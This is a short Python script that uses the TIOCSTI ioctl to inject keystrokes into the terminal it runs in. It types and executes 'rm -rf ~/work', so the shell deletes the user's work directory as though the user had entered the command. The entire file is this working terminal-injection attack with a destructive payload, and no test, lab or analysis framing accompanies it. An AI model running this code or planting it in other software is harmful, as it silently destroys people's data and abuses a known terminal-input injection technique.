import fcntl
TIOCSTI = 21522
def type_into_tty(text):
    for ch in text:
        fcntl.ioctl(0, TIOCSTI, ch)
type_into_tty("rm -rf ~/work\n")
